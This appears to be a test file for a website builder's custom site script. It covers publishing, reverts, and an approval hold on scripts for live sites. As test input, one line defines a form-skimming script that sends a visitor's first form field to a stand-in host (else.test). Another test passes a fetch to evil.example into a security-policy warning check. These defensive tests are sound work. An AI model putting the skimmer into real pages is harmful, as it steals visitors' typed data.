/** The site script, as writers send it and as visitors load it. */
import { beforeAll, expect, it } from "vitest"
import type { SiteId } from "../../../engine/model/ids.ts"
import type { EdgeRecord } from "../../../engine/publish/edge.ts"
import { edgeKey } from "../../../engine/publish/keys.ts"
import { parseTarget } from "../../../engine/values/path.ts"
import { resolveSite, siteView } from "../../../engine/serve/resolve.ts"
import { allowed } from "../../../test/builders/allowlist.ts"
import { testApi } from "../../../test/builders/api.ts"
import { browser } from "../../../test/builders/browse.ts"
import { linkIn, mailsOf } from "../../../test/builders/mailbox.ts"

const api = testApi()
beforeAll(() => api.startWorker())

/** What the origin answers at /__mk/site.js, found as the origin finds it. */
const visited = async (siteId: string): Promise<string | undefined> => {
  const edge = JSON.parse((await api.object(edgeKey(siteId as SiteId))) ?? "null") as EdgeRecord
  const target = parseTarget("/__mk/site.js")
  if ("status" in target) throw new Error("The path of the script is no path.")
  const resolution = resolveSite(target, "preview", siteView(edge))
  return resolution.kind === "object" ? api.object(resolution.key) : undefined
}

it("ASSET-10, ASSET-11: is served at /__mk/site.js by the time the write is answered", async () => {
  const site = await api.aSite()
  expect(await visited(site.siteId)).toBeUndefined()
  const one = (await site.put("/v1/script", { js: "console.log(1)" })).body
  expect(await visited(site.siteId)).toBe("console.log(1)")
  await site.put("/v1/script", { js: "console.log(2)" }, { "if-match": one.latestVersionId })
  expect(await visited(site.siteId)).toBe("console.log(2)")
  expect((await site.get(`/v1/pages/${one.pageId}/versions`)).body.versions).toHaveLength(2)
})

it("ASSET-12: a revert appends the old script and serves it", async () => {
  const site = await api.aSite()
  const one = (await site.put("/v1/script", { js: "console.log(1)" })).body
  const two = (await site.put("/v1/script", { js: "console.log(2)" })).body
  const reply = await site.post("/v1/script/revert", { toVersionId: one.versionId })
  expect([reply.status, reply.body.revertedTo]).toEqual([200, one.versionId])
  expect([one.versionId, two.versionId]).not.toContain(reply.body.latestVersionId)
  expect((await site.get("/v1/script")).body).toMatchObject({
    js: "console.log(1)",
    latestVersionId: reply.body.latestVersionId
  })
  expect(await visited(site.siteId)).toBe("console.log(1)")
})

it("is loaded by every page, deferred, and by none once it is empty", async () => {
  const site = await api.aSite()
  await site.aPage({ route: "/" })
  const shown = async () => (await api.served(site.siteId, "/"))!
  expect(await shown()).not.toContain("<script defer")
  await site.put("/v1/script", { js: "console.log(1)" })
  await expect.poll(shown, { timeout: 20_000 }).toMatch(/<script defer src="\/__mk\/assets\/\w+\.js"><\/script>/)
  await site.put("/v1/script", { js: "" })
  await expect.poll(shown, { timeout: 20_000 }).not.toContain("<script defer")
  expect(await visited(site.siteId)).toBeUndefined()
})

it("a revert takes versions of this asset only", async () => {
  const site = await api.aSite()
  const sheet = (await site.put("/v1/stylesheet", { css: ".a{}" })).body
  await site.put("/v1/script", { js: "1" })
  const reply = await site.post("/v1/script/revert", { toVersionId: sheet.versionId })
  expect([reply.status, reply.code]).toEqual([404, "version.not_found"])
})

/** What a program would carry visitors' words away with. */
const theft = 'document.forms[0].onsubmit = (e) => { location = "https://else.test/?" + e.target.elements[0].value }'

it("S7: on a live site waits for the owner, who is shown it as code, and no credential releases it", async () => {
  const site = await api.aSite()
  await site.put("/v1/script", { js: "console.log(1)" })
  await api.operator.post(`/ops/v1/sites/${site.siteId}/domains`, { host: "www.code.test" })
  await api.operator.patch(`/ops/v1/sites/${site.siteId}`, { ownerEmail: "nell@vale.test" })
  const held = await site.put("/v1/script", { js: theft })
  expect(held.status).toBe(202)
  expect(held.body).toMatchObject({ decidableBy: ["owner", "staff"] })
  expect(await visited(site.siteId)).toBe("console.log(1)")
  const released = await site.post(`/v1/pages/${held.body.pageId}/publish`, { versionId: held.body.versionId })
  expect(released.status).toBeGreaterThanOrEqual(400)
  expect(await visited(site.siteId)).toBe("console.log(1)")

  const mail = (await mailsOf(api, site.siteId)).at(-1)!
  expect(mail.to).toEqual(["nell@vale.test"])
  const person = browser(api)
  const shown = await person.open(linkIn(mail))
  expect(shown.html).toContain("document.forms[0].onsubmit")
  expect(shown.html).toContain("https://else.test/")
  await person.press(linkIn(mail), { decision: "accept" })
  await expect.poll(() => visited(site.siteId), { timeout: 20_000 }).toBe(theft)
})

it("S7: where no owner is known, staff decide about a script, and no address that a program has set is asked", async () => {
  const site = await api.aSite()
  await site.put("/v1/site", { notifyEmail: "thief@else.test" })
  await api.operator.post(`/ops/v1/sites/${site.siteId}/domains`, { host: "www.nobody-code.test" })
  expect((await site.put("/v1/script", { js: theft })).status).toBe(202)
  expect(await mailsOf(api, site.siteId)).toEqual([])
})

it("S7: what a revert brings back on a live site waits as well", async () => {
  const site = await api.aSite()
  const one = (await site.put("/v1/script", { js: theft })).body
  await site.put("/v1/script", { js: "console.log(2)" })
  await api.operator.post(`/ops/v1/sites/${site.siteId}/domains`, { host: "www.code-back.test" })
  expect((await site.post("/v1/script/revert", { toVersionId: one.versionId })).status).toBe(202)
  expect(await visited(site.siteId)).toBe("console.log(2)")
})

it("a script is told what the security policy of its pages will refuse, and not of what is approved or its own", async () => {
  const site = await api.aSite({ domain: "www.own-code.test" })
  const js = [
    'eval("1")',
    'fetch("https://evil.example/x")',
    'fetch("https://api.example.com/x")',
    'fetch("https://www.own-code.test/x")'
  ].join(";")
  const told = async () => {
    const { status, body } = await site.put("/v1/script?dryRun=1", { js })
    return [
      status,
      ...body.warnings.flatMap(({ code, by, origin }: Told) => (code.startsWith("js.") ? [by ?? origin] : []))
    ]
  }
  expect(await told()).toEqual([200, "eval", "https://evil.example", "https://api.example.com"])
  await allowed(api, site, "https://api.example.com")
  expect(await told()).toEqual([200, "eval", "https://evil.example"])
})

interface Told {
  readonly code: string
  readonly by?: string
  readonly origin?: string
}
